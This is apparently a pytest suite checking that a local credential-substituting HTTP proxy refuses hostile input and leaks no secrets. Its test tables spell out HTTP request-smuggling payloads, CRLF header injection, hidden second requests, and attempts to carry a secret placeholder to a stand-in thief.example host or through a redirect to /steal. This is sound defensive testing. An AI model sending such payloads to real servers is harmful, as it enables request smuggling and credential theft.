"""What a hostile server, agent or neighbour may try: it gets no value, and the vendor sees nothing of it."""

from __future__ import annotations

import asyncio
import ssl
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.broker.wire.bench import (
    FREE,
    OK,
    OTHER,
    OTHER_VALUE,
    VALUE,
    VENDOR,
    Bench,
    Client,
    Request,
    answering,
    basic,
    bench,
    passage,
    run,
)
from tests.servers.tls import double
from unsprawl.broker.wire.model import Happening

HEAD = f"GET / HTTP/1.1\r\nHost: {VENDOR}\r\n"


def smuggled(first: str, *lines: str, body: str = "") -> str:
    """A request with the placeholder in it; `{P}` is its place."""
    return "\r\n".join((first, *lines, "Authorization: Bearer {P}", "", "")) + body


HOST = f"Host: {VENDOR}"
UNKNOWN = "its issuer is not known; if that is your company's, name its certificate in UNSPRAWL_EXTRA_CA"
POST = "POST / HTTP/1.1"
SECOND = f"GET /second HTTP/1.1\r\n{HOST}\r\n\r\n"

ODD: dict[str, tuple[str, int, str]] = {
    "both lengths": (
        smuggled(POST, HOST, "Content-Length: 4", "Transfer-Encoding: chunked", body="0\r\n\r\n" + SECOND),
        400,
        "both Content-Length and Transfer-Encoding are there",
    ),
    "both lengths the other way": (
        smuggled(POST, HOST, "Transfer-Encoding: chunked", "Content-Length: 4", body="0\r\n\r\n" + SECOND),
        400,
        "both Content-Length and Transfer-Encoding are there",
    ),
    "two lengths": (
        smuggled(POST, HOST, "Content-Length: 0", f"Content-Length: {len(SECOND)}", body=SECOND),
        400,
        "the length of the body is said twice",
    ),
    "the same length twice": (
        smuggled(POST, HOST, "Content-Length: 2", "Content-Length: 2", body="ok"),
        400,
        "the length of the body is said twice",
    ),
    "a list of lengths": (
        smuggled(POST, HOST, "Content-Length: 2, 2", body="ok"),
        400,
        "the length of the body is not well formed",
    ),
    "a signed length": (
        smuggled(POST, HOST, "Content-Length: +2", body="ok"),
        400,
        "the length of the body is not well formed",
    ),
    "a negative length": (
        smuggled(POST, HOST, "Content-Length: -2"),
        400,
        "the length of the body is not well formed",
    ),
    "a length in other digits": (
        smuggled(POST, HOST, "Content-Length: \u00b2", body="ok"),
        400,
        "the length of the body is not well formed",
    ),
    "an endless length": (
        smuggled(POST, HOST, "Content-Length: " + "9" * 40),
        400,
        "the length of the body is not well formed",
    ),
    "an empty length": (
        smuggled(POST, HOST, "Content-Length:", body="ok"),
        400,
        "the length of the body is not well formed",
    ),
    "two codings": (
        smuggled(POST, HOST, "Transfer-Encoding: chunked", "Transfer-Encoding: identity", body="0\r\n\r\n"),
        400,
        "the length of the body is said twice",
    ),
    "a list of codings": (
        smuggled(POST, HOST, "Transfer-Encoding: gzip, chunked", body="0\r\n\r\n"),
        501,
        "the transfer coding is not `chunked`",
    ),
    "a coding that is not quite": (
        smuggled(POST, HOST, "Transfer-Encoding: xchunked", body="0\r\n\r\n"),
        501,
        "the transfer coding is not `chunked`",
    ),
    "a coding with a vertical tab": (
        smuggled(POST, HOST, "Transfer-Encoding: \x0bchunked", body="0\r\n\r\n"),
        400,
        "a header line is not well formed",
    ),
    "a space before the colon": (
        smuggled(POST, HOST, "Transfer-Encoding : chunked", body="0\r\n\r\n"),
        400,
        "a header line is not well formed",
    ),
    "a tab before the colon": (
        smuggled(POST, HOST, "Content-Length\t: 2", body="ok"),
        400,
        "a header line is not well formed",
    ),
    "chunked in HTTP/1.0": (
        smuggled("POST / HTTP/1.0", HOST, "Transfer-Encoding: chunked", body="0\r\n\r\n"),
        400,
        "HTTP/1.0 has no transfer codings",
    ),
    "obs-fold": (
        smuggled(POST, HOST, "X-Folded: a", " Transfer-Encoding: chunked", body="0\r\n\r\n"),
        400,
        "a header line is folded",
    ),
    "obs-fold with a tab": (
        smuggled(POST, HOST, "X-Folded: a", "\tContent-Length: 3"),
        400,
        "a header line is folded",
    ),
    "obs-fold at the start": (smuggled(POST, " X-Folded: a", HOST), 400, "a header line is folded"),
    "a bare CR in a header": (
        smuggled(POST, HOST, "X-Bare: a\rContent-Length: 3"),
        400,
        "a line ends with a bare CR or LF",
    ),
    "a bare LF in a header": (
        smuggled(POST, HOST, "X-Bare: a\nContent-Length: 3"),
        400,
        "a line ends with a bare CR or LF",
    ),
    "bare LFs all over": (smuggled(POST, HOST).replace("\r\n", "\n"), 400, "a line ends with a bare CR or LF"),
    "a bare LF in the request line": (
        smuggled("GET / HTTP/1.1\nX: y", HOST),
        400,
        "a line ends with a bare CR or LF",
    ),
    "a doubled CR": (smuggled(POST, HOST + "\r"), 400, "a line ends with a bare CR or LF"),
    "a NUL in a header": (smuggled(POST, HOST, "X-Nul: a\0b"), 400, "there is a NUL byte in the head"),
    "a NUL in a name": (smuggled(POST, HOST, "X\0: a"), 400, "there is a NUL byte in the head"),
    "a control character": (smuggled(POST, HOST, "X-Bell: a\x07b"), 400, "a header line is not well formed"),
    "a line without a colon": (smuggled(POST, HOST, "X-Nothing"), 400, "a header line is not well formed"),
    "an empty name": (smuggled(POST, HOST, ": a"), 400, "a header line is not well formed"),
    "no host": (smuggled("GET / HTTP/1.1"), 400, "there is no Host header"),
    "two hosts": (smuggled("GET / HTTP/1.1", HOST, HOST), 400, "there is more than one Host header"),
    "another host": (
        smuggled("GET / HTTP/1.1", f"Host: {OTHER}"),
        421,
        "the Host header names another host than the address",
    ),
    "another port": (
        smuggled("GET / HTTP/1.1", f"Host: {VENDOR}:8443"),
        421,
        "the Host header names another host than the address",
    ),
    "a host and more": (
        smuggled("GET / HTTP/1.1", f"Host: {VENDOR}/@{OTHER}"),
        400,
        "the name of the host is not well formed",
    ),
    "a host with a user": (
        smuggled("GET / HTTP/1.1", f"Host: {VENDOR}@{OTHER}"),
        400,
        "the name of the host is not well formed",
    ),
    "an empty host": (smuggled("GET / HTTP/1.1", "Host:"), 400, "the name of the host is not well formed"),
    "two hosts in one": (
        smuggled("GET / HTTP/1.1", f"Host: {VENDOR}, {OTHER}"),
        400,
        "the name of the host is not well formed",
    ),
    "absolute-form to another host": (
        smuggled(f"GET https://{OTHER}/ HTTP/1.1", HOST),
        421,
        "the target names another host than the tunnel",
    ),
    "absolute-form in the clear": (
        smuggled(f"GET http://{VENDOR}/ HTTP/1.1", HOST),
        421,
        "the target names another host than the tunnel",
    ),
    "absolute-form to another port": (
        smuggled(f"GET https://{VENDOR}:8443/ HTTP/1.1", HOST),
        421,
        "the target names another host than the tunnel",
    ),
    "absolute-form with a user": (
        smuggled(f"GET https://{VENDOR}@{OTHER}/ HTTP/1.1", HOST),
        400,
        "the name of the host is not well formed",
    ),
    "absolute-form with another Host": (
        smuggled(f"GET https://{VENDOR}/ HTTP/1.1", f"Host: {OTHER}"),
        421,
        "the Host header names another host than the address",
    ),
    "a target without a slash": (smuggled("GET second HTTP/1.1", HOST), 400, "the target is not well formed"),
    "a target with a fragment": (smuggled("GET /#x HTTP/1.1", HOST), 400, "the target has a fragment"),
    "a target with a space": (smuggled("GET / x HTTP/1.1", HOST), 400, "the request line is not well formed"),
    "a target beyond ASCII": (
        smuggled("GET /\u00e9 HTTP/1.1", HOST),
        400,
        "the request line is not well formed",
    ),
    "CONNECT inside": (smuggled(f"CONNECT {OTHER}:443 HTTP/1.1", HOST), 400, "CONNECT inside a tunnel"),
    "HTTP/2 without asking": ("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400, "the request line is not well formed"),
    "HTTP/0.9": ("GET /\r\n\r\n", 400, "the request line is not well formed"),
    "two spaces": (smuggled("GET  / HTTP/1.1", HOST), 400, "the request line is not well formed"),
    "an empty line first": ("\r\n" + smuggled("GET / HTTP/1.1", HOST), 400, "a header line is not well formed"),
    "TRACE": (
        smuggled("TRACE / HTTP/1.1", HOST),
        405,
        "TRACE would echo what is sent, so it is not passed on",
    ),
    "Connection that drops the host": (
        smuggled("GET / HTTP/1.1", HOST, "Connection: host"),
        400,
        "Connection names a header that belongs to the message",
    ),
    "Connection that drops the length": (
        smuggled(POST, HOST, "Content-Length: 2", "Connection: keep-alive, Content-Length", body="ok"),
        400,
        "Connection names a header that belongs to the message",
    ),
    "a head without end": (smuggled(POST, HOST, "X-Long: " + "a" * 70_000), 431, "the head is too large"),
    "very many headers": (smuggled(POST, HOST, *["X: y"] * 300), 431, "there are too many headers"),
    "a foreign placeholder": (
        smuggled("GET / HTTP/1.1", HOST).replace("{P}", "{OTHER}"),
        403,
        "a placeholder on the way to a host that it is not bound to",
    ),
}


@pytest.mark.parametrize("name", ODD)
def test_what_can_be_read_in_two_ways_is_not_passed_on(tmp_path: Path, name: str) -> None:
    text, status, reason = ODD[name]

    async def scenario() -> None:
        async with bench(tmp_path) as here:
            client = await here.tunnel()
            text_sent = text.replace("{P}", here.placeholder).replace("{OTHER}", here.other_placeholder)
            client.send(text_sent.encode("latin-1"))
            answer = await client.answer()
            assert (answer.status, answer.body.decode()) == (status, f"unsprawl: {reason}\n")
            assert answer.header("connection") == "close"
            assert await client.rest() == b""
            await client.close()
            _nothing_arrived(here)
            stopped = here.told(Happening.STOPPED)
            assert [(event.status, event.reason, event.host) for event in stopped] == [
                (status, reason, f"{VENDOR}:443")
            ]
            assert here.told(Happening.SENT, Happening.FAILED) == []

    run(scenario())


CHUNKS: dict[str, tuple[str, str]] = {
    "an extension": ("2;x=y\r\nok\r\n0\r\n\r\n", "a chunk has an extension, or no size"),
    "an empty extension": ("2;\r\nok\r\n0\r\n\r\n", "a chunk has an extension, or no size"),
    "an extension with a line feed": ("2;\nxx\r\n4f\r\n0\r\n\r\n", "a chunk has an extension, or no size"),
    "a space after the size": ("2 \r\nok\r\n0\r\n\r\n", "a chunk has an extension, or no size"),
    "a space before the size": (" 2\r\nok\r\n0\r\n\r\n", "a chunk has an extension, or no size"),
    "a signed size": ("+2\r\nok\r\n0\r\n\r\n", "a chunk has an extension, or no size"),
    "a size with 0x": ("0x2\r\nok\r\n0\r\n\r\n", "a chunk has an extension, or no size"),
    "no size": ("\r\nok\r\n0\r\n\r\n", "a chunk has an extension, or no size"),
    "letters for a size": ("zz\r\nok\r\n0\r\n\r\n", "a chunk has an extension, or no size"),
    "a size that wraps around": ("1" + "0" * 16 + "2\r\nok\r\n0\r\n\r\n", "a chunk has an extension, or no size"),
    "a size with a bare LF": ("2\nok\r\n0\r\n\r\n", "a chunk has an extension, or no size"),
    "a size with a bare CR": ("2\rok\r\n0\r\n\r\n", "a chunk has an extension, or no size"),
    "a chunk that is longer": ("2\r\nokk\r\n0\r\n\r\n", "a chunk does not end where it said"),
    "a chunk that ends with LF": ("2\r\nok\n0\r\n\r\n", "a chunk does not end where it said"),
    "a chunk that ends with CR": ("2\r\nok\rX0\r\n\r\n", "a chunk does not end where it said"),
    "a trailer about the length": (
        "0\r\nContent-Length: 3\r\n\r\n",
        "a trailer is not well formed, or belongs into the head",
    ),
    "a trailer about the host": (
        f"0\r\nHost: {OTHER}\r\n\r\n",
        "a trailer is not well formed, or belongs into the head",
    ),
    "a trailer with a bare LF": ("0\r\nX: y\nZ: w\r\n\r\n", "a trailer is not well formed, or belongs into the head"),
    "a folded trailer": ("0\r\nX: y\r\n z\r\n\r\n", "a trailer is not well formed, or belongs into the head"),
    "endless trailers": ("0\r\n" + "X: y\r\n" * 20_000, "the trailers are too large"),
}


@pytest.mark.parametrize("name", CHUNKS)
@pytest.mark.parametrize("in_pieces", [False, True], ids=["at once", "byte by byte"])
def test_chunks_that_servers_disagree_about_end_both_connections(tmp_path: Path, name: str, in_pieces: bool) -> None:
    body, reason = CHUNKS[name]
    if in_pieces and len(body) > 1000:
        pytest.skip("the same at length")

    async def scenario() -> None:
        async with bench(tmp_path) as here:
            client = await here.tunnel()
            head = f"{POST}\r\n{HOST}\r\nTransfer-Encoding: chunked\r\nAuthorization: Bearer {here.placeholder}\r\n\r\n"
            client.send(head.encode())
            for piece in body if in_pieces else [body]:
                client.send(piece.encode())
                await asyncio.sleep(0)
            answer = await client.answer()
            assert answer.status in (400, 431)
            assert answer.body.decode() == f"unsprawl: {reason}\n"
            assert await client.rest() == b""
            await client.close()
            # The head was on its way already, with the value, to the host it belongs to; no second request was.
            assert here.vendor.received.count(b"HTTP/1.1") <= 1
            assert not here.vendor.received.endswith(b"0\r\n\r\n")
            [stopped] = here.told(Happening.STOPPED)
            assert (stopped.reason, stopped.variables) == (reason, ("VENDOR_TOKEN",))
            assert here.told(Happening.SENT) == []

    run(scenario())


@pytest.mark.parametrize("first_length", [1, 7, 60, 10_000])
def test_a_second_request_hidden_in_the_first_is_one_more_request(tmp_path: Path, first_length: int) -> None:
    """However the bytes are cut: what is behind the body is looked at like any request."""

    async def scenario() -> None:
        async with bench(tmp_path) as here:
            client = await here.tunnel()
            hidden = f"GET /hidden HTTP/1.1\r\nHost: {OTHER}\r\nAuthorization: Bearer {here.placeholder}\r\n\r\n"
            data = f"{POST}\r\n{HOST}\r\nContent-Length: 2\r\n\r\nok{hidden}".encode()
            client.send(data[:first_length])
            await asyncio.sleep(0)
            client.send(data[first_length:])
            assert (await client.answer()).status == 200
            assert (await client.answer()).status == 421
            assert await client.rest() == b""
            await client.close()
            assert b"hidden" not in here.vendor.received
            assert VALUE.encode() not in here.vendor.received

    run(scenario())


def test_the_greeting_names_another_host_than_connect(tmp_path: Path) -> None:
    async def scenario() -> None:
        async with bench(tmp_path) as here:
            client, head = await here.connect(f"{VENDOR}:443")
            assert head.startswith(b"HTTP/1.1 200 ")
            with pytest.raises((ssl.SSLError, ConnectionError)):
                await client.start_tls(here.client_context(), OTHER)
            client.abort()
            _nothing_arrived(here)
            assert [(event.host, event.reason) for event in here.told(Happening.STOPPED, Happening.FAILED)] == [
                (VENDOR, "the TLS greeting names another host than CONNECT")
            ]

    run(scenario())


def test_a_host_that_is_not_bound_gets_the_placeholder_at_most(tmp_path: Path) -> None:
    """It is tunnelled unread, in TLS of its own."""

    async def scenario() -> None:
        async with bench(tmp_path) as here:
            client, head = await here.connect(f"{FREE}:443")
            assert head.startswith(b"HTTP/1.1 200 ")
            context = ssl.create_default_context(cafile=str(tmp_path / "root.pem"))
            await client.start_tls(context, FREE)
            client.send(f"GET / HTTP/1.1\r\nHost: {FREE}\r\nX: {here.placeholder}\r\n\r\n".encode())
            assert (await client.answer()).body == b"ok"
            await client.close()
            assert here.placeholder.encode() in here.doubles[FREE].received
            assert VALUE.encode() not in here.doubles[FREE].received
            assert [(event.what, event.host, event.status) for event in here.events] == [
                (Happening.TUNNELLED, f"{FREE}:443", 200)
            ]

    run(scenario())


@pytest.mark.parametrize(
    ("place", "status"), [(OTHER, 403), (FREE, 200)], ids=["to a host of another key", "to a host of none"]
)
def test_a_redirect_does_not_take_the_value_along(tmp_path: Path, place: str, status: int) -> None:
    """The answer goes to the client as it is; a client that follows it sends its placeholder somewhere else."""
    redirect = f"HTTP/1.1 302 Found\r\nLocation: https://{place}/steal\r\nContent-Length: 0\r\n\r\n".encode()

    async def scenario() -> None:
        async with bench(tmp_path, answering(redirect)) as here:
            client = await here.tunnel()
            request = "GET / HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {}\r\n\r\n"
            client.send(request.format(VENDOR, here.placeholder).encode())
            answer = await client.answer()
            assert (answer.status, answer.header("location")) == (302, f"https://{place}/steal")
            await client.close()
            assert VALUE.encode() in here.vendor.received
            if place == OTHER:
                follower = await here.tunnel(OTHER)
            else:
                follower, _ = await here.connect(f"{FREE}:443")
                await follower.start_tls(ssl.create_default_context(cafile=str(tmp_path / "root.pem")), FREE)
            follower.send(request.format(place, here.placeholder).encode())
            assert (await follower.answer()).status == status
            await follower.close()
            assert VALUE.encode() not in here.doubles[place].received
            assert [event.variables for event in here.told(Happening.STOPPED)] == [("VENDOR_TOKEN",)] * (status == 403)

    run(scenario())


PROXY_REQUESTS: dict[str, tuple[str, int, str]] = {
    "in the clear to the bound host": (
        f"GET http://{VENDOR}/ HTTP/1.1\r\nHost: {VENDOR}\r\nAuthorization: Bearer {{P}}\r\n{{A}}\r\n",
        403,
        "a placeholder in a request that is not encrypted",
    ),
    "in the clear to another": (
        f"GET http://{FREE}/?key={{P}} HTTP/1.1\r\nHost: {FREE}\r\n{{A}}\r\n",
        403,
        "a placeholder in a request that is not encrypted",
    ),
    "in the name of a host": (
        "GET http://{P}.thief.example/ HTTP/1.1\r\nHost: {P}.thief.example\r\n{A}\r\n",
        403,
        "a placeholder in the name of a host",
    ),
    "in the name of a tunnel": (
        "CONNECT {P}.thief.example:443 HTTP/1.1\r\n{A}\r\n",
        403,
        "a placeholder in the name of a host",
    ),
    "address and Host disagree": (
        f"GET https://{VENDOR}/ HTTP/1.1\r\nHost: {FREE}\r\nAuthorization: Bearer {{P}}\r\n{{A}}\r\n",
        421,
        "the Host header names another host than the address",
    ),
    "tunnel and Host disagree": (
        f"CONNECT {FREE}:443 HTTP/1.1\r\nHost: {VENDOR}:443\r\n{{A}}\r\n",
        421,
        "the Host header names another host than the address",
    ),
    "an address with a user": (
        f"GET https://{VENDOR}@{FREE}/ HTTP/1.1\r\nHost: {VENDOR}\r\nX: {{P}}\r\n{{A}}\r\n",
        400,
        "the name of the host is not well formed",
    ),
    "a whole address to a foreign host": (
        f"GET https://{OTHER}/ HTTP/1.1\r\nHost: {OTHER}\r\nAuthorization: Bearer {{P}}\r\n{{A}}\r\n",
        403,
        "a placeholder on the way to a host that it is not bound to",
    ),
    "a whole address to an unbound host": (
        f"GET https://{FREE}/ HTTP/1.1\r\nHost: {FREE}\r\nAuthorization: Bearer {{P}}\r\n{{A}}\r\n",
        403,
        "a placeholder on the way to a host that it is not bound to",
    ),
    "another scheme": (
        f"GET ftp://{VENDOR}/ HTTP/1.1\r\nHost: {VENDOR}\r\n{{A}}\r\n",
        400,
        "only http:// and https:// are passed on",
    ),
    "no address": (
        f"GET / HTTP/1.1\r\nHost: {VENDOR}\r\n{{A}}\r\n",
        400,
        "this is a proxy: a request has to name the whole address",
    ),
    "a tunnel with a body": (
        f"CONNECT {VENDOR}:443 HTTP/1.1\r\nContent-Length: 2\r\n{{A}}\r\nok",
        400,
        "CONNECT has no body",
    ),
    "a tunnel without a port": (
        f"CONNECT {VENDOR} HTTP/1.1\r\n{{A}}\r\n",
        400,
        "the port is missing or not well formed",
    ),
    "a tunnel to port 0": (f"CONNECT {VENDOR}:0 HTTP/1.1\r\n{{A}}\r\n", 400, "the port is missing or not well formed"),
    "a tunnel to a path": (
        f"CONNECT {VENDOR}:443/x HTTP/1.1\r\n{{A}}\r\n",
        400,
        "the name of the host is not well formed",
    ),
    "something before the tunnel is there": (
        f"CONNECT {VENDOR}:443 HTTP/1.1\r\n{{A}}\r\nGET / HTTP/1.1\r\n",
        400,
        "something was sent before the tunnel was there",
    ),
}


@pytest.mark.parametrize("name", PROXY_REQUESTS)
def test_requests_to_the_proxy_itself(tmp_path: Path, name: str) -> None:
    text, status, reason = PROXY_REQUESTS[name]

    async def scenario() -> None:
        async with bench(tmp_path) as here:
            client = await here.dial()
            credential = f"Proxy-Authorization: {here.authorization}\r\n"
            client.send(text.replace("{P}", here.placeholder).replace("{A}", credential).encode())
            answer = await client.answer()
            assert (answer.status, answer.body.decode()) == (status, f"unsprawl: {reason}\n")
            assert await client.rest() == b""
            await client.close()
            _nothing_arrived(here)
            assert [(event.status, event.reason) for event in here.events] == [(status, reason)]
            assert here.events[0].what is Happening.STOPPED
            assert here.placeholder not in repr(here.events)

    run(scenario())


CREDENTIALS: dict[str, Callable[[Bench], list[str]]] = {
    "none": lambda _: [],
    "empty": lambda _: [""],
    "another": lambda _: [basic("unsprawl:guess")],
    "no user": lambda here: [basic(f":{here.proxy.credential}")],
    "another user": lambda here: [basic(f"root:{here.proxy.credential}")],
    "a part of it": lambda here: [basic(f"unsprawl:{here.proxy.credential[:-1]}")],
    "more than it": lambda here: [basic(f"unsprawl:{here.proxy.credential}x")],
    "as a bearer": lambda here: [f"Bearer {here.proxy.credential}"],
    "no base64": lambda here: [f"Basic unsprawl:{here.proxy.credential}"],
    "two of them": lambda here: [here.authorization, here.authorization],
}


@pytest.mark.parametrize("name", CREDENTIALS)
@pytest.mark.parametrize("first", [f"CONNECT {VENDOR}:443", f"GET https://{VENDOR}/", "GET http://free.example/"])
def test_another_local_process_gets_nothing(tmp_path: Path, name: str, first: str) -> None:
    async def scenario() -> None:
        async with bench(tmp_path) as here:
            client = await here.dial()
            lines = [f"Proxy-Authorization: {text}" for text in CREDENTIALS[name](here)]
            host = first.split(" ")[1].removeprefix("https://").removeprefix("http://").rstrip("/")
            client.send("\r\n".join([f"{first} HTTP/1.1", f"Host: {host}", *lines, "", ""]).encode())
            answer = await client.answer()
            assert answer.status == 407
            assert (answer.header("proxy-authenticate") or "").startswith("Basic ")
            assert await client.rest() == b""
            await client.close()
            assert here.way.asked == []
            assert [event.what for event in here.events] == [Happening.REFUSED]
            assert here.events[0].host == ""

    run(scenario())


@pytest.mark.parametrize("text", ["both\r\n\r\n", "GET / HTTP/1.1\nHost: x\n\n", "\x16\x03\x01\0\0\r\n\r\n"])
def test_a_stranger_that_speaks_no_http(tmp_path: Path, text: str) -> None:
    async def scenario() -> None:
        async with bench(tmp_path) as here:
            for _ in range(20):
                client = await here.dial()
                client.send(text.encode())
                assert (await client.answer()).status == 400
                await client.close()
            assert {event.what for event in here.events} == {Happening.REFUSED}
            assert len(here.events) < 20

    run(scenario())


def test_a_neighbour_that_asks_on_and_on_does_not_fill_the_log(tmp_path: Path) -> None:
    async def scenario() -> None:
        async with bench(tmp_path) as here:
            for _ in range(20):
                client, head = await here.connect(f"{VENDOR}:443", authorization="Basic eDp5")
                assert head.startswith(b"HTTP/1.1 407 ")
                await client.close()
            assert len(here.told(Happening.REFUSED)) < 20

    run(scenario())


def test_neighbours_that_say_nothing_do_not_keep_the_server_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("unsprawl.broker.wire.proxy._MOST_UNKNOWN", 16)
    monkeypatch.setattr("unsprawl.broker.wire.proxy._MOST_CONNECTIONS", 20)

    async def scenario() -> None:
        async with bench(tmp_path) as here:
            silent = [await here.dial() for _ in range(50)]
            client = await here.tunnel()
            client.send(f"{HEAD}\r\n".encode())
            assert (await client.answer()).status == 200
            await client.close()
            for one in silent:
                await one.close()

    run(scenario())


SPLIT: dict[str, bytes] = {
    "both lengths": b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "two lengths": b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\nok!",
    "a bare CR": b"HTTP/1.1 200 OK\r\nX: a\rSet-Cookie: b=c\r\nContent-Length: 2\r\n\r\nok",
    "a bare LF": b"HTTP/1.1 200 OK\r\nX: a\nSet-Cookie: b=c\r\nContent-Length: 2\r\n\r\nok",
    "obs-fold": b"HTTP/1.1 200 OK\r\nX: a\r\n Set-Cookie: b=c\r\nContent-Length: 2\r\n\r\nok",
    "a NUL": b"HTTP/1.1 200 OK\r\nX: a\0b\r\nContent-Length: 2\r\n\r\nok",
    "a space before the colon": b"HTTP/1.1 200 OK\r\nContent-Length : 2\r\n\r\nok",
    "another coding": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
    "no status": b"HTTP/1.1 OK\r\n\r\n",
    "no HTTP": b"SSH-2.0-OpenSSH\r\n\r\n",
    "a head without end": b"HTTP/1.1 200 OK\r\nX: " + b"a" * 70_000,
    "many interim answers": b"HTTP/1.1 103 Early Hints\r\n\r\n" * 30 + OK,
    "an upgrade unasked": b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\n",
    "nothing": b"",
}


@pytest.mark.parametrize("name", SPLIT)
def test_an_answer_that_can_be_read_in_two_ways_is_not_passed_on(tmp_path: Path, name: str) -> None:
    async def handler(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(SPLIT[name])
        await writer.drain()

    async def scenario() -> None:
        async with bench(tmp_path, handler) as here:
            client = await here.tunnel()
            client.send(f"{HEAD}Authorization: Bearer {here.placeholder}\r\n\r\n".encode())
            answer = await client.answer()
            while answer.status == 103:
                answer = await client.answer()
            assert answer.status == 502
            assert await client.rest() == b""
            await client.close()
            [event] = here.told(Happening.FAILED)
            assert event.variables == ("VENDOR_TOKEN",)
            assert VALUE not in repr(here.events) + answer.body.decode()

    run(scenario())


def test_a_second_answer_is_not_given_to_the_next_request(tmp_path: Path) -> None:
    """What a host says unasked would poison the queue of answers."""
    asked: list[str] = []

    async def handler(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            head = await reader.readuntil(b"\r\n\r\n")
            asked.append(head.split(b" ")[1].decode())
            writer.write(OK + b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\npoisoned" if len(asked) == 1 else OK)
            await writer.drain()

    async def scenario() -> None:
        async with bench(tmp_path, handler) as here:
            client = await here.tunnel()
            for _ in range(2):
                client.send(f"{HEAD}\r\n".encode())
                assert (await client.answer()).body == b"ok"
            await client.close()
            assert here.vendor.connections == 2
            assert asked == ["/", "/"]

    run(scenario())


def test_a_value_with_a_line_break_splits_no_request(tmp_path: Path) -> None:
    broken = VALUE[:20] + "\r\nX-Split: yes"

    async def scenario() -> None:
        made = passage("VENDOR_TOKEN", VALUE, VENDOR)
        bad = passage("VENDOR_TOKEN", broken, VENDOR, placeholder=made.placeholder)
        async with bench(tmp_path, passages=lambda: [bad]) as here:
            client = await here.tunnel()
            client.send(f"{HEAD}Authorization: Bearer {made.placeholder}\r\n\r\n".encode())
            answer = await client.answer()
            assert answer.status in (403, 502)
            assert broken not in answer.body.decode()
            await client.close()
            assert b"X-Split" not in here.vendor.received
            assert VALUE[:20] not in repr(here.events)

    run(scenario())


@pytest.mark.parametrize("value", [VALUE, "correct horse battery staple"], ids=["a key", "a password"])
@pytest.mark.parametrize("framing", ["chunks", "a length", "events"])
def test_what_a_host_echoes_is_scrubbed(tmp_path: Path, framing: str, value: str) -> None:
    """In the body, however it is cut, in headers, in trailers and in the phrase behind the status."""

    def echo(request: Request) -> bytes:
        told = request.headers["authorization"].encode("latin-1")
        text = b"you sent %s twice: %s\n\n" % (told, told)
        head = b"HTTP/1.1 200 %s\r\nX-Echo: %s\r\n" % (told, told)
        if framing == "a length":
            return head + b"Content-Length: %d\r\n\r\n%s" % (len(text), text)
        kind = b"text/event-stream; charset=utf-8" if framing == "events" else b"text/plain"
        pieces = [text[at : at + 7] for at in range(0, len(text), 7)]
        body = b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces)
        return head + b"Content-Type: %s\r\nTransfer-Encoding: chunked\r\n\r\n%s0\r\nX: %s\r\n\r\n" % (kind, body, told)

    async def scenario() -> None:
        made = passage("VENDOR_TOKEN", value, VENDOR)
        async with bench(tmp_path, answering(echo), passages=lambda: [made]) as here:
            client = await here.tunnel()
            said = f"Bearer {made.placeholder}"
            for _ in range(2):
                client.send(f"{HEAD}Authorization: {said}\r\n\r\n".encode())
                answer = await client.answer()
                assert answer.body.decode() == f"you sent {said} twice: {said}\n\n"
                assert answer.header("x-echo") == said
                # A length is only taken away where it might not hold any more.
                kept = framing == "a length" and len(value) == len(made.placeholder)
                assert (answer.header("content-length") is not None) is kept
            client.send(f"{HEAD}Connection: close\r\nAuthorization: {said}\r\n\r\n".encode())
            raw = await client.rest()
            assert raw.startswith(f"HTTP/1.1 200 {said}\r\n".encode())
            assert value.encode() not in raw
            assert raw.count(made.placeholder.encode()) >= 2
            await client.close()
            assert here.vendor.received.count(value.encode()) == 3

    run(scenario())


def test_a_host_whose_certificate_does_not_hold_gets_nothing(tmp_path: Path) -> None:
    from datetime import timedelta

    from tests.servers.tls import Authority, way_to
    from unsprawl.broker.wire.proxy import WireProxy
    from unsprawl.broker.wire.swap import Swap
    from unsprawl.broker.wire.upstream import Upstream

    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    believed, stranger = Authority(tmp_path / "a"), Authority(tmp_path / "b")
    cases = [
        (stranger.server(VENDOR), UNKNOWN),
        (believed.server(OTHER), "it is for another name"),
        (believed.server(VENDOR, ends=timedelta(days=-1)), "expired"),
    ]

    async def one(context: ssl.SSLContext, reason: str) -> None:
        events: list[object] = []
        async with double(answering(OK), context) as vendor, way_to({f"{VENDOR}:443": vendor.port}) as way:
            swap = Swap([made := passage("VENDOR_TOKEN", VALUE, VENDOR)])
            proxy = WireProxy(swap, events.append, Upstream({"https_proxy": f"127.0.0.1:{way.port}"}, believed.root))
            await proxy.start()
            try:
                here = Bench(proxy, {VENDOR: vendor}, made.placeholder, "", way)
                client = await here.tunnel()
                client.send(f"{HEAD}Authorization: Bearer {made.placeholder}\r\n\r\n".encode())
                answer = await client.answer()
                assert answer.status == 502
                assert answer.body.decode() == (
                    f"unsprawl: {VENDOR}:443 is not reached: its certificate does not hold ({reason})\n"
                )
                await client.close()
                assert bytes(vendor.received) == b""
                assert [getattr(event, "what", None) for event in events] == [Happening.FAILED]
            finally:
                await proxy.close()

    async def scenario() -> None:
        for context, reason in cases:
            await one(context, reason)

    run(scenario())


def _nothing_arrived(here: Bench) -> None:
    for double_ in here.doubles.values():
        assert bytes(double_.received) == b""
    assert OTHER_VALUE not in repr(here.events)
    assert VALUE not in repr(here.events)


def test_the_proxy_shows_nothing_of_itself(tmp_path: Path) -> None:
    async def scenario() -> None:
        async with bench(tmp_path) as here:
            assert here.proxy.credential not in repr(here.proxy) + repr(vars(here.proxy)["_around"])
            client: Client = await here.dial()
            await client.close()

    run(scenario())
